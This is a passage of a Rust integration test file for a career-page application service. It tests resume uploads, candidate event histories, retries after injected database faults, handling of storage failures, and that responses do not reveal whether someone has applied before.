    let job = Job::new(&api, "Analyst").await;
    let role = format!("/api/v1/roles/{}", job.role);
    let (one, two) = join(
        job.apply(&api, &form("Ada", "ada@example.com")),
        job.apply(&api, &form("Grace", "grace@example.com")),
    )
    .await;
    api.request(Method::POST, &format!("{role}/pause")).send().await.expect(200);
    attach(&api, &one, PDF).await.expect(303);
    api.delete(&role).await.expect(200);
    Browser::new(&api).follow(&two).await.expect(410);
    assert_eq!(
        kinds(&find(&api, "ada@example.com").await),
        ["updated", "file_added", "applied", "consent_changed", "created"]
    );
    assert_eq!(Form::of_location(&two).0, format!("{}/apply", job.path));
}

/// Applies with a file in the form.
pub(crate) async fn apply_with(api: &TestApi, job: &Job, form: &Form, content: &[u8]) -> Response {
    Browser::new(api).submit_file(&format!("{}/apply", job.path), form, content).await
}

#[tokio::test]
async fn the_application_form_takes_the_resume() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let page = api.get(&job.path).await.expect(200);
    let opening = format!(
        "<form class=\"form\" method=\"post\" enctype=\"multipart/form-data\" action=\"{}/apply\"",
        job.path
    );
    assert!(page.text.contains(&opening) && page.text.contains("name=\"resume_file\""), "{}", page.text);
    let ada = form("Ada Lovelace", "ada@example.com").set("resume_url", "https://example.com/cv");
    let applied = apply_with(&api, &job, &ada, PDF).await.expect(303);
    let confirmation = Browser::new(&api).follow(&applied).await.expect(200);
    assert!(confirmation.text.contains("and your resume") && actions(&confirmation).is_empty());
    let candidate = find(&api, "ada@example.com").await;
    assert_eq!(kinds(&candidate), ["updated", "file_added", "applied", "consent_changed", "created"]);
    assert_eq!(candidate.string("/touchpoints/0/actor/type"), "career_page");
    let submitted = submission(&api, &candidate, 2).await;
    assert_eq!(submitted.string("/resume_url"), "https://example.com/cv");
    let file = download(candidate.string("/resume_url")).await.expect(200);
    assert_eq!((file.text.as_bytes(), file.header("content-type")), (PDF, "application/octet-stream"));
    let disposition = "attachment; filename=\"Ada Lovelace resume.pdf\"";
    assert_eq!(file.header("content-disposition"), disposition);
    // The ticket is used up.
    let (link, _) = applied.header("location").split_once("&attached").unwrap();
    Browser::new(&api).get(&format!("{link}&etag=x")).await.expect(303);
    assert_eq!(find(&api, "ada@example.com").await.text, candidate.text);
    // The file of somebody who applies again, or of another person with this address, does not replace the resume.
    apply_with(&api, &job, &ada, b"Another resume").await.expect(303);
    let again = find(&api, "ada@example.com").await;
    assert_eq!(
        kinds(&again),
        [
            "updated",
            "file_added",
            "reapplied",
            "updated",
            "file_added",
            "applied",
            "consent_changed",
            "created"
        ]
    );
    assert_eq!(again.string("/resume_url"), candidate.string("/resume_url"));
    let other = again.string("/touchpoints/0/detail/resume_url");
    assert_eq!(download(other).await.expect(200).text, "Another resume");
}

/// Neither the response nor the calls reveal whether somebody has applied before.
#[tokio::test]
async fn a_file_of_a_known_candidate_makes_the_same_calls() {
    let api = TestApi::new().await;
    let (job, other) = (Job::new(&api, "Analyst").await, Job::new(&api, "Engineer").await);
    let ada = form("Ada Lovelace", "ada@example.com");
    let mut seen = Vec::new();
    for job in [&job, &other, &job] {
        api.dynamodb.take_calls();
        let applied = apply_with(&api, job, &ada, PDF).await.expect(303);
        let calls: Vec<_> = api.dynamodb.take_calls().into_iter().map(|call| call.operation).collect();
        let (_, result) = applied.header("location").rsplit_once('&').unwrap();
        seen.push((calls, result.to_owned()));
    }
    assert_eq!(seen[0].1, "attached=yes");
    assert!(seen.iter().all(|one| *one == seen[0]), "{seen:?}");
    // The career site, the posting's slug, the posting with its role, the four limits, the candidate by e-mail address, the
    // application, the candidate, and the file.
    assert_eq!(seen[0].0.len(), 13, "{:?}", seen[0].0);
}

#[tokio::test]
async fn an_application_is_received_even_if_its_file_cannot_be_stored() {
    let nowhere = |access| Some(BucketAccess { endpoint: Some("http://127.0.0.1:1".to_owned()), ..access });
    let api = with_bucket(nowhere).await;
    let job = Job::new(&api, "Analyst").await;
    let applied = apply_with(&api, &job, &form("Ada", "ada@example.com"), PDF).await.expect(303);
    assert!(applied.header("location").ends_with("&unsaved=yes"));
    let page = Browser::new(&api).follow(&applied).await.expect(200);
    let sentence = "Your application has been received; please upload the file again in a minute.";
    assert!(page.text.contains(sentence) && actions(&page).len() == 1, "{}", page.text);
    assert_eq!(kinds(&find(&api, "ada@example.com").await), ["applied", "consent_changed", "created"]);
    let api = with_bucket(|_| None).await;
    let job = Job::new(&api, "Analyst").await;
    let page = api.get(&job.path).await.expect(200);
    assert!(!page.text.contains("type=\"file\""), "{}", page.text);
    apply_with(&api, &job, &form("Ada", "ada@example.com"), PDF).await.expect(303);
}

/// A function can be killed after any call. The application is stored once, and the file can still be added.
#[tokio::test]
async fn an_interrupted_application_with_a_file_can_be_repeated() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let mut successful_calls = 0;
    loop {
        let ada = form("Ada", &format!("ada{successful_calls}@example.com"));
        let calls = AtomicUsize::new(0);
        api.dynamodb.inject_faults(move |_, _| {
            (calls.fetch_add(1, Ordering::Relaxed) >= successful_calls).then_some(Fault::Unreachable)
        });
        let response = apply_with(&api, &job, &ada, PDF).await;
        api.dynamodb.inject_faults(|_, _| None);
        if response.header("location").ends_with("&attached=yes") {
            break;
        }
        if response.status == 303 {
            // The application is stored, so the next page offers to upload the file.
            attach(&api, &response, PDF).await.expect(303);
        } else {
            assert_eq!(response.status, 503);
            apply_with(&api, &job, &ada, PDF).await.expect(303);
        }
        let candidate = find(&api, &format!("ada{successful_calls}@example.com")).await;
        assert_eq!(
            kinds(&candidate),
            ["updated", "file_added", "applied", "consent_changed", "created"],
            "{successful_calls}"
        );
        assert_eq!(download(candidate.string("/resume_url")).await.expect(200).text.as_bytes(), PDF);
        successful_calls += 1;
    }
    assert!(successful_calls >= 9, "{successful_calls}");
}
